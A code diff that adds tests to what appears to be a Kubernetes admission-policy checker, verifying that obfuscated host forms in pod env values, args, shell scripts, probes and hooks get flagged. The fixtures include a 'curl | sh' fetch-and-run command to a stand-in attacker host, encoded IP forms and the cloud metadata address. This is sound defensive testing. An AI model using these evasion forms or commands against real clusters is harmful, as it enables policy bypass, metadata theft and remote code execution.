@@ -206,6 +206,38 @@ describe('bypasses closed', () => {
     });
   });
 
+  describe('hosts a determined tenant writes, in every place a container carries text (issue 14)', () => {
+    // Each form resolves to the host on the right in curl, Node's URL parser or glibc.
+    const forms: [string, string][] = [
+      ['http://134744072/', '8.8.8.8'],
+      ['http://0x8.0x8.0x8.0x8/', '8.8.8.8'],
+      ['http://010.010.010.010/', '8.8.8.8'],
+      ['http://%65vil-example.com/', 'evil-example.com'],
+      ['http://evil-example\u3002com/', 'evil-example.com'],
+      ['http://evil-example.com\\@declared.partner-example.com/', 'evil-example.com'],
+      [`http://${'u'.repeat(600)}@evil-example.com/`, 'evil-example.com'],
+      ['https://svc.evil-example.com/', 'svc.evil-example.com'],
+      ['http://169.254.169.254/latest/meta-data/', '169.254.169.254'],
+      ['git@evil-example.com:org/repo.git', 'evil-example.com'],
+    ];
+    const places: [string, (v: string) => Json][] = [
+      ['an env value', (v) => podWith({ env: [{ name: 'TARGET_VALUE', value: v }] })],
+      ['args', (v) => podWith({ args: ['--upstream', v] })],
+      ['an sh -c script', (v) => podWith({ command: ['sh', '-c', `set -e; curl -fsS '${v}' | sh`] })],
+      ['a probe exec command', (v) => podWith({ livenessProbe: { exec: { command: ['wget', '-q', v] } } })],
+      ['a lifecycle exec script', (v) => podWith({ lifecycle: { postStart: { exec: { command: ['/bin/sh', '-c', `git clone "${v}" /src`] } } } })],
+    ];
+    for (const [value, host] of forms) {
+      for (const [where, make] of places) {
+        it(`${JSON.stringify(value.length > 60 ? `${value.slice(0, 30)}…` : value)} in ${where} is ${host}`, () => {
+          const j = denied(make(value));
+          const shown = j.verdict.violations.filter((v) => v.rule === 'undeclared-external-host').map((v) => /host "([^"]+)"/.exec(v.message)?.[1]);
+          expect(shown).to.include(host);
+        });
+      }
+    }
+  });
+
   describe('credentials kept in ConfigMaps', () => {
     it('flags a sensitive name read from a ConfigMap, with the fix: move it into a Secret', () => {
       const j = denied(podWith({ env: [{ name: 'DB_PASSWORD', valueFrom: { configMapKeyRef: { name: 'app-config', key: 'db-password' } } }] }));
